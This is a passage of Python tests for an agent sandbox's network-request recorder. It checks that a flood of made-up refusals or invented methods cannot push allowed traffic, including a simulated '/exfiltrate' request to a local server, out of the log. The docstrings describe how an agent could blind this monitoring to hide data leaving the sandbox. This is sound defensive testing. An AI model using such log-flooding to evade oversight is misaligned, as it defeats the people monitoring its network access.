    # 5,010 distinct refused hosts filled the refusals' room: connections the proxy then
    # closed unserved, being full, were only counted among "(more attempts)", unnamed. They
    # have an entry of their own; a look-alike refusal is a refusal like any other.
    from gatekeeper.sandbox.net.record import BUSY_HOST, OVERFLOW_HOST, Entry, Recorder

    recorder = Recorder(max_entries=10)
    for port in range(20000, 20020):
        recorder.add(Entry("127.0.0.1", port, "deny", "localhost", method="GET"))
    for _ in range(50):
        recorder.turn_away("full")
    recorder.add(Entry(BUSY_HOST, None, "error", None, reason="made up"))
    requests, _ = recorder.snapshot()
    busy = [r for r in requests if r.host == BUSY_HOST]
    assert [(r.port, r.count, r.decision) for r in busy] == [(None, 50, "error")]
    assert [r.count for r in requests if r.host == OVERFLOW_HOST] == [16]  # 15 + the made-up
    assert recorder.summary()[0].startswith(BUSY_HOST)  # named, however many lines follow


def test_refusals_the_agent_makes_up_never_push_out_what_reached_the_network() -> None:
    """Refusals cost the agent nothing and it picks their keys: 10,001 of them at distinct
    ports filled the log, and an allowed request after them was only counted, with no host,
    port or bytes. Refusals now take half the room; allowed attempts past the rest are summed
    per destination (whatever their methods), their bytes too, as they move, and past the
    summed destinations per category: an allowed attempt is never only counted."""
    from gatekeeper.sandbox.net.record import MORE_DESTINATIONS, OVERFLOW_HOST, Entry, Recorder

    recorder = Recorder(max_entries=10, max_summed=2)
    for port in range(20000, 20100):
        recorder.add(Entry("127.0.0.1", port, "deny", "localhost", method="GET"))
    live = recorder.add(Entry("127.0.0.1", 18080, "allow", "localhost", method="GET", path="/x"))
    live.sent(7)
    listed = [e for e in recorder.entries if e.decision == "allow"]
    assert listed == [live] and len(recorder.entries) == 6
    for _ in range(4):  # fill the room with allowed ones
        recorder.add(Entry("registry.test", 443, "allow", "package_registry", method="CONNECT"))
    assert len(recorder.entries) == 10
    # Made-up methods to one destination are one destination (they filled the sums before).
    late = [recorder.add(Entry("web.test", 80, "allow", "arbitrary_web", method=f"X{n}"))
            for n in range(3)]  # fmt: skip
    for n, entry in enumerate(late):
        entry.sent(100 * (n + 1))
        entry.received(1000)
    entry.sent(1)  # after it was summed: still counted
    other = recorder.add(Entry("other.test", 80, "allow", "arbitrary_web", method="GET"))
    other.received(5)
    third = recorder.add(Entry("third.test", 8080, "allow", "arbitrary_web", method="POST"))
    third.sent(1 << 20)
    requests, _ = recorder.snapshot()
    summed = {(r.host, r.port): r for r in requests if r.path == "(summed: many requests)"}
    web = summed[("web.test", 80)]
    assert (web.decision, web.count, web.bytes_up, web.bytes_down) == ("allow", 3, 601, 3000)
    assert web.method is None  # several
    assert (summed[("other.test", 80)].count, summed[("other.test", 80)].bytes_down) == (None, 5)
    more = summed[(MORE_DESTINATIONS, None)]  # past max_summed: by category, bytes and all
    assert (more.category, more.bytes_up, more.method) == ("arbitrary_web", 1 << 20, "POST")
    (overflow,) = [r for r in requests if r.host == OVERFLOW_HOST]
    assert overflow.count == 95  # the refusals past their room only
    assert next(r for r in requests if r.port == 18080).bytes_up == 7


def test_after_a_flood_of_refusals_an_allowed_request_is_in_the_record_with_its_host(
    start_session: SessionFactory, outer: IsolatedNet
) -> None:
    """Through the real proxy: 10,001 refusals at distinct ports (as many as the log lists,
    and one more), then an allowed request carrying data: it is listed with its host, port,
    path and bytes."""
    service = RecordingHTTPServer(("127.0.0.1", 0)).start()
    try:
        session, _ = start_session({"localhost": [service.port]})
        for port in range(20000, 20000 + MAX_ENTRIES + 1):
            exchange(session, f"GET http://127.0.0.1:{port}/ HTTP/1.1\r\n\r\n".encode())
        request = f"GET http://127.0.0.1:{service.port}/exfiltrate HTTP/1.1\r\n\r\n"
        assert exchange(session, request.encode()).startswith(b"HTTP/1.1 ")
    finally:
        service.close()
    assert len(service.requests) == 1
    requests, _ = session.recorder.snapshot()
    (allowed,) = [r for r in requests if r.decision == "allow"]
    assert (allowed.host, allowed.port, allowed.path) == ("127.0.0.1", service.port, "/exfiltrate")
    assert allowed.bytes_up and allowed.bytes_down
    overflow = requests[-1]
    assert overflow.decision == "not-recorded" and overflow.count == MAX_ENTRIES + 1 - MAX_REFUSED


def test_a_name_approved_as_internal_is_resolved_once_and_asked_once(
    start_session: SessionFactory, outer: IsolatedNet
) -> None:

    from net_ns import REMOTE_PRIVATE

    with outer.inside("remote"):
        service = RecordingHTTPServer((REMOTE_PRIVATE, 0)).start()
    try:
        with answered_tty(b"y\n") as (tty, prompts):
            session, _ = start_session(
                {"internal_services": "ask", "arbitrary_web": "deny"},
                ask="tty",
                tty_path=tty,
                names={"db.corp.test": [REMOTE_PRIVATE]},
            )
            reply = exchange(
                session, f"GET http://db.corp.test:{service.port}/ HTTP/1.1\r\n\r\n".encode()
            )
            assert reply.startswith(b"HTTP/1.1 200 "), reply
    finally:
        service.close()
    assert len(prompts) == 1 and b"may be an internal service" in prompts[0]
    entry = session.recorder.entries[0]
    assert (entry.category, entry.decision) == ("internal_services", "allow")
